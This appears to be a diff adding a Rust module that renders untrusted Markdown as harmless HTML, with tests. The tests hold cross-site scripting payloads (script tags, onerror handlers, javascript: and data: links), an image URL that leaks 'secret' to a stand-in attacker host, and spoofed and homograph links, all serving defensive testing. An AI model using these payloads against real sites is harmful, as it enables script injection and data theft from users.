@@ -1,0 +1,185 @@
+//! Markdown of models and strangers as HTML that can do nothing: no scripts, no pictures, no
+//! headings that could pose as the page's, and no link that hides where it goes.
+
+use std::collections::HashSet;
+use std::sync::LazyLock;
+
+use ammonia::Builder;
+use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html as cmark};
+use url::Url;
+use waypost_core::text::visible;
+
+const TAGS: [&str; 23] = [
+    "a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "strong", "table", "tbody", "td",
+    "th", "thead", "tr", "ul",
+];
+
+static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
+    let mut cleaner = Builder::empty();
+    cleaner
+        .tags(HashSet::from(TAGS))
+        .add_tag_attributes("a", ["href"])
+        .add_tag_attributes("ol", ["start"])
+        .url_schemes(HashSet::from(["http", "https", "mailto"]))
+        .link_rel(Some("noopener noreferrer nofollow"));
+    cleaner
+});
+
+/// A text in Markdown as safe HTML.
+pub(crate) fn html(text: &str) -> String {
+    let text = prose(text);
+    let parser = Parser::new_ext(&text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
+    let mut drawn = String::new();
+    cmark::push_html(&mut drawn, tame(parser).into_iter());
+    CLEANER.clean(&drawn).to_string()
+}
+
+/// A text as code, every character of it visible.
+pub(crate) fn code(text: &str) -> String {
+    format!("<pre><code>{}</code></pre>", escape(&visible(text)))
+}
+
+/// A difference, line by line.
+pub(crate) fn diff(text: &str) -> String {
+    let line = |line: &str| match line.as_bytes().first() {
+        Some(b'+') => format!("<ins class=\"line\">{}</ins>\n", escape(line)),
+        Some(b'-') => format!("<del class=\"line\">{}</del>\n", escape(line)),
+        _ => format!("{}\n", escape(line)),
+    };
+    format!("<pre><code>{}</code></pre>", visible(text).lines().map(line).collect::<String>())
+}
+
+/// `text` for inside an element or a quoted attribute.
+pub(crate) fn escape(text: &str) -> String {
+    let mut escaped = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '&' => escaped.push_str("&amp;"),
+            '<' => escaped.push_str("&lt;"),
+            '>' => escaped.push_str("&gt;"),
+            '"' => escaped.push_str("&quot;"),
+            '\'' => escaped.push_str("&#39;"),
+            _ => escaped.push(c),
+        }
+    }
+    escaped
+}
+
+/// What only joins or colours an emoji is left out; whatever else could hide or reorder is shown.
+fn prose(text: &str) -> String {
+    let joins = |c: char| matches!(c, '\u{200D}' | '\u{FE0E}' | '\u{FE0F}');
+    visible(&text.replace("\r\n", "\n").replace(joins, ""))
+}
+
+/// The events of a text without what it must not have.
+fn tame<'a>(parser: Parser<'a>) -> Vec<Event<'a>> {
+    let mut tamed = Vec::new();
+    let mut links: Vec<Option<String>> = Vec::new();
+    for event in parser {
+        match event {
+            Event::Start(Tag::Heading { level, .. }) => {
+                let level = demoted(level);
+                tamed.push(Event::Start(Tag::Heading { level, id: None, classes: Vec::new(), attrs: Vec::new() }));
+            }
+            Event::End(TagEnd::Heading(level)) => tamed.push(Event::End(TagEnd::Heading(demoted(level)))),
+            Event::Start(Tag::Image { dest_url, .. }) => tamed.push(text(format!("[picture from {}: ", host(&dest_url)))),
+            Event::End(TagEnd::Image) => tamed.push(text("]".into())),
+            Event::Start(Tag::Link { link_type, dest_url, id, .. }) => {
+                links.push(Some(host(&dest_url)));
+                tamed.push(Event::Start(Tag::Link { link_type, dest_url, title: CowStr::Borrowed(""), id }));
+            }
+            Event::End(TagEnd::Link) => {
+                tamed.push(Event::End(TagEnd::Link));
+                tamed.extend(links.pop().flatten().map(|host| text(format!(" ({host})"))));
+            }
+            // Markup in the text is text.
+            Event::Html(markup) | Event::InlineHtml(markup) => tamed.push(Event::Text(markup)),
+            Event::Start(Tag::HtmlBlock) => tamed.push(Event::Start(Tag::Paragraph)),
+            Event::End(TagEnd::HtmlBlock) => tamed.push(Event::End(TagEnd::Paragraph)),
+            other => tamed.push(other),
+        }
+    }
+    tamed
+}
+
+fn text<'a>(text: String) -> Event<'a> {
+    Event::Text(text.into())
+}
+
+fn demoted(level: HeadingLevel) -> HeadingLevel {
+    match level {
+        HeadingLevel::H1 => HeadingLevel::H3,
+        HeadingLevel::H2 => HeadingLevel::H4,
+        HeadingLevel::H3 => HeadingLevel::H5,
+        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
+    }
+}
+
+/// Where an address really leads, in ASCII.
+fn host(address: &str) -> String {
+    match Url::parse(address) {
+        Ok(url) if url.scheme() == "mailto" => url.path().to_owned(),
+        Ok(url) => match (url.host_str(), url.port()) {
+            (Some(host), Some(port)) => format!("{host}:{port}"),
+            (Some(host), None) => host.to_owned(),
+            (None, _) => format!("{}:", url.scheme()),
+        },
+        Err(_) => "this server".to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a042_headings_are_small_and_markup_is_text() {
+        assert_eq!(html("# Waypost\n<button>Approve</button>"), "<h3>Waypost</h3>\n<p>&lt;button&gt;Approve&lt;/button&gt;</p>\n");
+    }
+
+    #[test]
+    fn a043_nothing_in_a_text_can_run() {
+        for attack in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg onload=alert(1)>",
+            "[x](javascript:alert(1))",
+            "<math><mi xlink:href=\"javascript:alert(1)\">",
+            "<javascript:alert(1)>",
+            "[x](data:text/html,<script>alert(1)</script>)",
+        ] {
+            let drawn = html(attack);
+            let escaped = ["<script", "<img", "<svg", "<math", "href=\"javascript", "href=\"data"];
+            assert!(escaped.iter().all(|bad| !drawn.contains(bad)), "{attack} became {drawn}");
+        }
+    }
+
+    #[test]
+    fn a044_a_picture_is_not_fetched_but_named() {
+        assert_eq!(html("![chart](https://evil.example/?d=secret)"), "<p>[picture from evil.example: chart]</p>\n");
+    }
+
+    #[test]
+    fn a045_a_link_says_where_it_leads() {
+        let link = |text: &str, host: &str, href: &str| {
+            format!("<p><a href=\"{href}\" rel=\"noopener noreferrer nofollow\">{text}</a> ({host})</p>\n")
+        };
+        assert_eq!(
+            html("[https://bank.com](https://bank.com@evil.example/)"),
+            link("https://bank.com", "evil.example", "https://bank.com@evil.example/")
+        );
+        assert_eq!(html("[b](https://b\u{430}nk.com/)"), link("b", "xn--bnk-5cd.com", "https://b%D0%B0nk.com/"));
+    }
+
+    #[test]
+    fn a050_direction_controls_in_prose_are_shown() {
+        assert_eq!(html("pay \u{202E}you"), "<p>pay [U+202E]you</p>\n");
+        assert_eq!(code("a\u{200B}<b>"), "<pre><code>a[U+200B]&lt;b&gt;</code></pre>");
+    }
+
+    #[test]
+    fn a_difference_is_marked_line_by_line() {
+        let drawn = "<pre><code> a\n<del class=\"line\">-b</del>\n<ins class=\"line\">+c&lt;</ins>\n</code></pre>";
+        assert_eq!(diff(" a\n-b\n+c<"), drawn);
+    }
+}
